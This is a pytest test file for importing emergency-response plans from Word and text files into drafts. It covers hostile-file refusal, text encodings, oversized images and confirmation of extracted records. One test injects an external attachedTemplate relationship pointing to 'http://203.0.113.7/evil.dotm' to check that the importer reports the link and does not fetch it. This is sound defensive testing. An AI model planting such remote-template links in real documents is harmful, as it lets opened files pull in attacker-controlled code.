"""A plan comes in from Word or text: read in the limited child, begun as a draft of what was confirmed; bad files change nothing."""

from __future__ import annotations

import shutil
import time
import zipfile
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

from emergency_desk.domain.errors import BadFile, FieldMissing, FieldRefused
from emergency_desk.domain.plan_proposals import Doubt, FileNoteKind, sure_ones
from emergency_desk.domain.plan_records import Level, LevelRule, WorkGroup
from emergency_desk.errands import plan_import
from emergency_desk.services.desk import Desk
from emergency_desk.services.plan_drafts import list_drafts, open_draft
from emergency_desk.wording import catalog
from emergency_desk.wording.refusals import sentence
from tests.builders import make_desk
from tests.errands import plan_word_files as files
from tests.exchange.plan_words import PLANS

SECONDS = 12.0  # two or three on a quiet machine of today; the tests share theirs


def drafts(desk: Desk) -> int:
    return len(list_drafts(desk))


@pytest.mark.parametrize(("make", "reason"), files.HOSTILE, ids=lambda each: getattr(each, "__name__", str(each)))
def test_a_bad_file_is_refused_in_a_sentence_and_nothing_is_begun(tmp_path: Path, make: Callable[[Path], None], reason: str) -> None:
    path = tmp_path / "预案.docx"
    make(path)
    desk = make_desk(tmp_path, account="planner")
    began = time.monotonic()
    with pytest.raises(BadFile) as told:
        plan_import.read_plans(desk, path=path)
    assert time.monotonic() - began < SECONDS
    assert told.value.values["reason"] == reason
    english = sentence(told.value)
    catalog.use_language("zh_CN")
    chinese = sentence(told.value)
    assert "预案.docx" in english and "预案.docx" in chinese and english != chinese
    assert "…" not in english and "{" not in english
    assert english.endswith("Nothing was taken.")
    assert drafts(desk) == 0


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "gb18030", "big5hkscs"])
def test_text_in_every_encoding_of_offices_reads_alike(tmp_path: Path, encoding: str) -> None:
    text = files.GOOD if encoding != "big5hkscs" else (
        "某市燃氣事故應急預案\n1 總則\n1.1 編制目的\n為了及時處置燃氣洩漏突發事件，制定本應急預案。\n"
        "2 應急響應\n2.1 指揮\n由市長指揮搶險救援。\n3 附則\n3.1 解釋\n略。\n")
    path = tmp_path / "预案.txt"
    path.write_bytes(text.encode(encoding))
    (plan,) = plan_import.read_plans(make_desk(tmp_path, account="planner"), path=path)
    assert [one.clause.number for one in plan.chapters] == ["1", "2", "3"]
    assert "\ufeff" not in plan.facts.title
    assert plan.facts.title in ("某市燃气事故应急预案", "某市燃氣事故應急預案")


def test_two_hundred_megabytes_of_pictures_hinder_nobody(tmp_path: Path) -> None:
    path = tmp_path / "预案.docx"
    files.good(path)
    with zipfile.ZipFile(path, "a") as archive, archive.open("word/media/image1.bmp", "w", force_zip64=True) as part:
        for _megabyte in range(200):
            part.write(bytes(1024 * 1024))
    began = time.monotonic()
    (plan,) = plan_import.read_plans(make_desk(tmp_path, account="planner"), path=path)
    assert time.monotonic() - began < SECONDS
    assert len(plan.clauses) == 7


def test_what_lies_outside_the_file_is_told_and_never_fetched(tmp_path: Path) -> None:
    path = tmp_path / "预案.docx"
    files.good(path)
    name = "word/_rels/document.xml.rels"
    outside = (b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
               b'Target="http://203.0.113.7/evil.dotm" TargetMode="External"/></Relationships>')
    files.with_part(path, name, files.parts_of(path)[name].replace(b"</Relationships>", outside))
    (plan,) = plan_import.read_plans(make_desk(tmp_path, account="planner"), path=path)
    (note,) = plan.notes
    assert (note.kind, note.count, note.detail) == (FileNoteKind.OUTSIDE, 1, "http://203.0.113.7/evil.dotm")


def test_only_what_was_confirmed_stands_in_the_draft(tmp_path: Path) -> None:
    desk = make_desk(tmp_path, account="planner")
    path = tmp_path / "燃气.docx"
    files.good(path)
    (plan,) = plan_import.read_plans(desk, path=path)
    assert {one.id for one in plan.asked} == {"level I", "group 1", "card 1", "contact 1"}
    level = next(one for one in plan.asked if isinstance(one.record, LevelRule))
    done = plan_import.take(desk, plan, facts=plan.facts, confirmed={level.id: level.record})
    made = open_draft(desk, draft_id=done.value.id).plan
    assert [rule.level for rule in made.levels] == [Level.I]
    assert (made.work_groups, made.contacts) == ((), ())
    assert "抢险救援组：由市消防救援支队牵头" in made.clauses[4].body.zh  # what nobody confirmed stays as text
    assert [clause.number for clause in made.clauses] == ["1", "1.1", "2", "2.1", "2.2", "3", "3.1"]
    assert done.value.source == "燃气.docx"


def test_what_is_sure_may_be_confirmed_at_once_and_what_is_doubtful_may_not(tmp_path: Path) -> None:
    desk = make_desk(tmp_path, account="planner")
    path = tmp_path / "燃气.docx"
    files.good(path)
    (plan,) = plan_import.read_plans(desk, path=path)
    assert set(sure_ones(plan)) == {"level I", "contact 1"}
    level = next(one for one in plan.asked if isinstance(one.record, LevelRule))
    bare = replace(level.record, conditions=())
    with pytest.raises(FieldMissing):
        plan_import.take(desk, plan, facts=plan.facts, confirmed={level.id: bare})
    group = next(one for one in plan.asked if isinstance(one.record, WorkGroup))
    with pytest.raises(FieldRefused):
        plan_import.take(desk, replace(plan, work_groups=(group, replace(group, id="group 2"))), facts=plan.facts,
                         confirmed={group.id: group.record, "group 2": group.record})
    assert drafts(desk) == 0


def test_a_second_import_of_the_same_plan_gets_a_code_of_its_own(tmp_path: Path) -> None:
    desk = make_desk(tmp_path, account="planner")
    path = tmp_path / "燃气.docx"
    files.good(path)
    (first,) = plan_import.read_plans(desk, path=path)
    plan_import.take(desk, first, facts=first.facts, confirmed={})
    (second,) = plan_import.read_plans(desk, path=path)
    assert first.facts.code != second.facts.code
    plan_import.take(desk, second, facts=second.facts, confirmed={})
    assert drafts(desk) == 2


if PLANS.exists():

    def test_real_plans_become_drafts_with_all_their_clauses(tmp_path: Path) -> None:
        desk = make_desk(tmp_path, account="planner")
        for path in sorted(PLANS.iterdir()):
            copy = Path(shutil.copy(path, tmp_path / path.name))
            (plan,) = plan_import.read_plans(desk, path=copy)
            confirmed = sure_ones(plan)
            made = open_draft(desk, draft_id=plan_import.take(desk, plan, facts=plan.facts, confirmed=confirmed).value.id).plan
            assert [clause.number for clause in made.clauses] == [one.clause.number for one in plan.clauses]
            assert len(made.basis) == len(plan.basis)
            assert not any(Doubt.NO_CONDITION in one.doubts for one in plan.levels if one.id in confirmed)
